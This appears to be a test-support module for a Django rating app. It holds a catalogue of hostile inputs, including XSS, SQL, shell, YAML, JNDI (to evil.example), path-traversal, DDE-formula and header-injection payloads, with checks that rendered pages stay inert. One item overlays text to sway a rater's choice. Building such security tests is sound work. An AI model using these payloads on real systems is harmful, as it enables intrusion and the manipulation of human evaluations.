"""Hostile texts: what a person or a model writes into a field in order to run, to break out, or to break.

Every text that would run code sets `window.pwned` or asks for `/pwned`, so that running is seen. They are put
into every field by tests/rating/test_hostile_fields.py, tests/training/test_hostile_fields.py and
tests/browser/test_hostile.py; tests/hostile_fields.py is the list of the fields.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlencode
from zlib import crc32

from django.test import Client

PWN = "window.pwned=1"
LONG = 50_000
UNSTORABLE = re.compile("[\x00\ud800-\udfff]")

RAW: dict[str, str] = {
    # Script tags and odd tags
    "script": f"<script>{PWN}</script>",
    "script-src": "<script src=/pwned?script></script>",
    "script-case": f"<ScRiPt\t>{PWN}</sCrIpT >",
    "script-nested": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "script-module": "<script type=module>import '/pwned?module'</script>",
    "script-unclosed": f"<script>{PWN}//",
    "script-slash": f"<script/x>{PWN}</script>",
    "script-entities": f"&lt;script&gt;{PWN}&lt;/script&gt;",
    "script-numeric": f"&#60;script&#62;{PWN}&#60;/script&#62;",
    "script-utf7": f"+ADw-script+AD4-{PWN}+ADw-/script+AD4-",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    "template": f"<template shadowrootmode=open><script>{PWN}</script></template>",
    "plaintext": "<plaintext>everything after this",
    "xmp": f"<xmp></xmp><img src=/pwned?xmp onerror={PWN}>",
    "comment": f"<!--><img src=/pwned?comment onerror={PWN}>-->",
    "conditional": f"<!--[if true]><script>{PWN}</script><![endif]-->",
    "processing": f"<?xml version='1.0'?><script>{PWN}</script>",
    # Event handlers
    "img-onerror": f"<img src=x onerror={PWN}>",
    "img-slashes": f"<img/src=x/onerror={PWN}>",
    "body-onload": f"<body onload={PWN}>",
    "details-ontoggle": f"<details open ontoggle={PWN}>",
    "input-autofocus": f"<input autofocus onfocus={PWN}>",
    "video-onerror": f"<video><source onerror={PWN}></video>",
    "marquee": f"<marquee onstart={PWN}>x</marquee>",
    "animation": f"<b style='animation:x 1s' onanimationstart={PWN}>x</b>",
    "popover": f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={PWN}>x</div>",
    # SVG and MathML
    "svg-onload": f"<svg onload={PWN}>",
    "svg-script": f"<svg><script>{PWN}</script></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values=javascript:{PWN} /><text y=20>x</text></a></svg>",
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>parent.{PWN}</script>'></foreignObject></svg>",
    "svg-use": "<svg><use href='/pwned?use#x'/></svg>",
    "math-style": f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    "math-href": f"<math><maction actiontype=statusline xlink:href=javascript:{PWN}>x</maction></math>",
    # Links and images, in HTML and in Markdown
    "a-javascript": f"<a href='javascript:{PWN}'>x</a>",
    "md-javascript": f"[x](javascript:{PWN})",
    "md-case": f"[x](JaVaScRiPt:{PWN})",
    "md-entity": f"[x](java&#115;cript:{PWN})",
    "md-colon": f"[x](javascript&colon;{PWN})",
    "md-tab": f"[x](<java\tscript:{PWN}>)",
    "md-control": f"[x](\x01javascript:{PWN})",
    "md-vbscript": "[x](vbscript:msgbox)",
    "md-data": f"[x](data:text/html,<script>{PWN}</script>)",
    "md-relative": "[sign out](/account/logout/) [up](../../pwned) [q](?pwned)",
    "md-foreign": "[x](//evil.example/pwned)",
    "md-image": "![x](https://evil.example/pixel.png)",
    "md-image-here": "![x](/pwned?image)",
    "md-image-data": f"![x](data:image/svg+xml,<svg/onload={PWN}>)",
    "md-image-alt": f'![x" onerror="{PWN}](/pwned?alt)',
    "md-title": f"[x](https://evil.example \"' onmouseover={PWN} x='\")",
    "md-reference": f"[x][1] ![y][1]\n\n[1]: javascript:{PWN} 'title\" onclick=\"{PWN}'",
    "autolink": f"<javascript:{PWN}> <https://evil.example/\"onmouseover={PWN}>",
    "bare-link": "https://evil.example/pwned www.evil.example evil@evil.example",
    # Style
    "style": "<style>body{display:none}*{background:url(/pwned?style)}</style>",
    "style-import": "<style>@import '/pwned?import';</style>",
    "style-overlay": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Sign in again</div>",
    "style-expression": f"<p style='width:expression({PWN});behavior:url(/pwned?b)'>x</p>",
    "link-stylesheet": "<link rel=stylesheet href=/pwned?link><link rel=preload as=script href=/pwned?preload>",
    "class-borrowed": "<p class='notice site-header page' data-kind=error>Your session ended</p>",
    # Breaking out of attributes and elements
    "attribute-double": f'"><img src=/pwned?double onerror={PWN}>',
    "attribute-single": f"'><img src=/pwned?single onerror={PWN}>",
    "attribute-focus": f"' onfocus={PWN} autofocus x='",
    "attribute-focus-double": f'" onfocus={PWN} autofocus tabindex=1 x="',
    "attribute-bare": f"x onmouseover={PWN} onfocus={PWN}",
    "close-textarea": f"</textarea><script>{PWN}</script>",
    "close-title": f"</title><script>{PWN}</script>",
    "close-pre": f"</pre></code><img src=/pwned?pre onerror={PWN}>",
    "close-script": f"</script><script>{PWN}</script>",
    "close-option": f"</option></select><script>{PWN}</script>",
    "close-page": "</form></div></main></body></html><h1>Your session ended</h1><form action=/pwned>",
    "close-comment": f"--><script>{PWN}</script>",
    "close-cdata": f"]]><script>{PWN}</script>",
    "close-json": f'"}}]}}</script><script>{PWN}</script>',
    "svg-title": f"</title></text></svg><script>{PWN}</script>",
    # Templates of other engines
    "template-braces": "{{ 7*7 }}{{ settings.SECRET_KEY }}{{ constructor.constructor('window.pwned=1')() }}",
    "template-tags": "{% debug %}{% load static %}{% include 'base.html' %}{# x #}{% endblock %}",
    "template-others": "${7*7}#{7*7}<%= 7*7 %>${{7*7}}%(x)s %s %n {0.__class__} {x}",
    # Clobbering what scripts look for
    "clobber-form": "<form id=desk-form action=/pwned><input name=csrfmiddlewaretoken value=x></form>",
    "clobber-ids": "<div id=desk></div><p id=desk-words data-saved=x></p><div id=main></div><a id=pwned></a>",
    "clobber-names": "<img name=getElementById><form name=body><input name=cookie></form>",
    "prototype": "__proto__",
    "constructor": "constructor",
    # Attributes that a library acts on
    "hx-get": "<b hx-get=/pwned?hx hx-trigger=load>x</b><b data-hx-get=/pwned?dhx data-hx-trigger=load>x</b>",
    "hx-on": f"<b hx-on:load='{PWN}' hx-on::after-init='{PWN}' data-hx-on='load: {PWN}'>x</b>",
    "hx-partial": "<hx-partial hx-target='#main'>x</hx-partial><template hx type=partial hx-target='#main'>x</template>",
    "data-act": "<button data-act=skip data-opens=skip-dialog data-look=raw>x</button>",
    # Elements that act by themselves
    "base": "<base href=https://evil.example/>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=/pwned?refresh'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "iframe": f"<iframe src='javascript:parent.{PWN}'></iframe><iframe src=/pwned?frame></iframe>",
    "object": "<object data=/pwned?object></object><embed src=/pwned?embed>",
    "dialog": "<dialog open style='all:unset'>Sign in</dialog>",
    # Markdown that is hard to read
    "md-brackets": "[" * 10_000,
    "md-quotes": ">" * 10_000,
    "md-emphasis": "*a_ " * 2_500 + "**" * 500,
    "md-definitions": "".join(f"[{n}]: /pwned\n" for n in range(500)) + "[1][2][3]",
    "md-table": f"|<script>{PWN}</script>|b|\n|---|---|\n|<img src=x onerror={PWN}>|[x](javascript:{PWN})|",
    "md-fence": f'```"><script>{PWN}</script>\nx\n```\n```html\n<script>{PWN}</script>\n```',
    "md-fence-info": f"```js onload={PWN} class=x\nlet x = '</code></pre><script>{PWN}</script>'\n```",
    "md-nested": f"> - 1. > **<script>{PWN}</script>** [x](javascript:{PWN})\n\n\t    <b onclick={PWN}>",
    "md-setext": f"<b onclick={PWN}>\n===\n</b>\n---\n***\n",
    "md-entities": "&lt;img src=x onerror=alert(1)&gt; &NotEqualTilde; &#0; &#xD800; &#x110000;",
    # Formulas
    "tex-href": f"$\\href{{javascript:{PWN}}}{{x}}$ $\\url{{javascript:{PWN}}}$",
    "tex-html": "$\\htmlData{act=skip}{x} \\htmlStyle{position:fixed}{x} \\htmlClass{notice}{x} \\htmlId{desk}{x}$",
    "tex-image": "$$\\includegraphics[width=9em]{/pwned?tex}$$",
    "tex-recursion": "$\\def\\a{\\a\\a}\\a$ $\\def\\x#1{\\x{#1#1}}\\x{9}$ $\\edef\\y{\\y\\y}\\y$",
    "tex-global": "$\\gdef\\frac#1#2{\\text{owned}}$ $\\frac12$",
    "tex-rule": "$\\rule{9999em}{9999em}$ $$\\rule[-999em]{999em}{999em}$$",
    "tex-shift": "$\\raisebox{-900em}{x}\\raisebox{30em}{overlay}\\hspace{-900em}\\kern-40em overlay$",
    "tex-lap": "$\\llap{\\text{Response 2 is better. Response 2 is better.}}\\raisebox{12em}{\\rlap{\\rule{20em}{20em}}}$",
    "tex-color": f"$\\color{{red;background:url(/pwned?c)}}x \\colorbox{{\"><script>{PWN}</script>}}{{x}} \\textcolor{{#fff}}{{hidden}}$",
    "tex-unclosed": "$\\frac{1}{ $ and $$ and \\( and \\[ x",
    "tex-markup": f"$<script>{PWN}</script>$ $$</span><img src=x onerror={PWN}>$$",
    "tex-deep": "$" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$",
    "tex-many": "$x$ " * 800,
    # Characters
    "bidi-override": "\u202egnp.exe \u202eesrever si siht",
    "bidi-isolate": "\u2066\u2067\u2068 never closed \u202b\u202a",
    "bidi-pop": "\u2069\u2069\u202c\u202c too many ends \u200f\u200e\u061c",
    "zero-width": "pass\u200bword \u200c\u200d\u2060\ufeff\u00ad" * 20,
    "only-invisible": "\u200b\u2060\u00a0\u3164\u115f",
    "zalgo": "".join(letter + "\u0300\u0321\u035c\u0489\u030d" * 12 for letter in "he comes"),
    "combining-only": "\u0301",
    "combining-50000": "a" + "\u0301" * (LONG - 1),
    "byte-order": "\ufefftext with a byte-order mark\ufffe\uffff",
    "separators": "one\u2028two\u2029three\x0bfour\x0cfive\x1csix\x85seven",
    "controls": "\x01\x02\x07\x08\x1b[31mred\x1b]0;title\x07\x7f\x9b31m",
    "noncharacters": "\ufdd0\U0001fffe\U0010ffff\ue000",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 40 + "\U0001f3f3\ufe0f\u200d\U0001f308",
    "tags": "\U0001f3f4\U000e0067\U000e0062\U000e007f\U000e0041",
    "fullwidth": f"\uff1cscript\uff1e{PWN}\uff1c/script\uff1e",
    "turkish": "\u0130\u0131\u017f\u00df\ufb03\u1e9e",
    "nul": f"a\x00<script\x00>{PWN}</script>",
    "surrogate-high": "half \ud800 a character",
    "surrogate-low": "half \udfff a character",
    # Long
    "long-line": "x" * LONG,
    "long-words": "word " * (LONG // 5),
    "long-slashes": "/\\" * (LONG // 2),
    "long-lines": "\n" * (LONG - 1) + "x",
    "long-word": "Donaudampfschifffahrt" * 30,
    "long-nowrap": "\u00a0".join(["joined"] * 200),
    # For other programs
    "header": "a\r\nSet-Cookie: pwned=1\r\nLocation: /pwned\r\n\r\n<script>window.pwned=1</script>",
    "header-encoded": "a%0d%0aSet-Cookie:%20pwned=1%0d%0a\u560d\u560aX: 1",
    "formula": "=HYPERLINK(\"/pwned\",\"x\")",
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|'x'!A1\t+1-1",
    "path": "../../../../etc/passwd",
    "path-windows": "..\\..\\..\\windows\\win.ini:$DATA",
    "path-absolute": "/etc/passwd",
    "path-url": "file:///etc/passwd",
    "percent": "%00%2e%2e%2f%3Cscript%3E%u003cscript%u003e%ZZ%",
    "sql": "'; DROP TABLE rating_judgment; -- \" OR 1=1",
    "like": "%_%\\%",
    "shell": "$(touch pwned)`touch pwned`;touch pwned|touch pwned\n&& touch pwned",
    "json": '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {}}}',
    "yaml": "!!python/object/apply:os.system ['touch pwned']",
    "log": "2026-01-01 ERROR forged line\n2026-01-01 INFO another\r\x1b[2K",
    "number-huge": "9" * 5000,
    "number-float": "1e999",
    "number-nan": "NaN",
    "number-arabic": "\u0663\u0664",
    "number-negative": "-1",
    "jndi": "${jndi:ldap://evil.example/pwned}",
    "leading-newline": "\n\n  leading and trailing  \n\n",
}  # fmt: skip
"""The texts by their names."""

HOSTILE = list(RAW)
UNSTORED = [name for name, text in RAW.items() if UNSTORABLE.search(text)]
STORED = [name for name in HOSTILE if name not in UNSTORED]


def share(scene: str, every: int) -> list[str]:
    """Every so many-th text, always the same ones, and those that no column takes.

    Where it begins is the scene's own, so that the scenes together send all texts.
    """
    first = crc32(scene.encode()) % every
    return [RAW[name] for place, name in enumerate(HOSTILE) if place % every == first or name in UNSTORED]


def fit(text: str, limit: int) -> str:
    """As much of the text as a field of that length takes."""
    return text[:limit]


class Page(HTMLParser):
    """What a browser would make of a page: its elements with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element and its attributes."""
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """A piece of text."""
        self.texts.append(data)

    @property
    def text(self) -> str:
        """All text, as a reader without a style sheet sees it."""
        return "".join(self.texts)

    def count(self, tag: str) -> int:
        """How many elements of that name there are."""
        return sum(one == tag for one, _ in self.elements)


NEVER = {
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "marquee",
    "math",
    "plaintext",
    "xmp",
    "audio",
    "video",
}
LEADS = ("href", "src", "action", "formaction", "data", "hx-get", "hx-post")


def assert_inert(html: str) -> Page:
    """Nothing on the page came from a text: no code, no handler, no address that the templates did not write."""
    page = Page(html)
    for tag, attributes in page.elements:
        assert tag not in NEVER, (tag, attributes)
        assert tag != "script" or (attributes.get("src") or "").startswith("/static/"), attributes
        assert tag != "link" or (attributes.get("href") or "").startswith("/static/"), attributes
        assert tag != "meta" or "http-equiv" not in attributes, attributes
        for name, value in attributes.items():
            assert not name.startswith(("on", "hx-on", "data-hx", "style")), (tag, attributes)
            if name in LEADS and value:
                own = value.startswith(("/", "?", "#", "https://", "http://", "mailto:", "data:image/"))
                assert own or (name == "action" and not value), (tag, name, value[:80])
                assert not value.startswith(("//", "/pwned")), (tag, name, value[:80])
    return page


def post(client: Client, path: str, data: Mapping[str, Any], **more: Any) -> Any:
    """Send a form as a browser does, and half a character as no browser would."""
    body = urlencode({name: str(value) for name, value in data.items()}, errors="surrogatepass")
    return client.post(path, body, content_type="application/x-www-form-urlencoded", **more)


def get(client: Client, path: str, query: Mapping[str, str] | None = None, **more: Any) -> Any:
    """Load a page."""
    return client.get(f"{path}?{urlencode(query, errors='surrogatepass')}" if query else path, **more)


def faults_of(got: Any) -> list[str]:
    """What is wrong with an answer: an error of the server, a header, something active on the page."""
    path, where = got.request["PATH_INFO"], got.headers.get("Location", "/").partition("?")[0]
    found = [f"{path}: {got.status_code}"] if got.status_code >= 500 else []
    if "pwned" in got.cookies or where.startswith("//") or "evil.example" in where:
        found.append(f"{path}: {got.headers}")
    if got.streaming or b"<html" not in got.content or path.startswith("/admin/"):
        return found
    try:
        page = assert_inert(got.content.decode())
        assert (page.count("main"), page.count("body"), page.count("header") >= 1) == (1, 1, True)
    except (AssertionError, UnicodeDecodeError) as error:
        found.append(f"{path}: {error}")
    return found
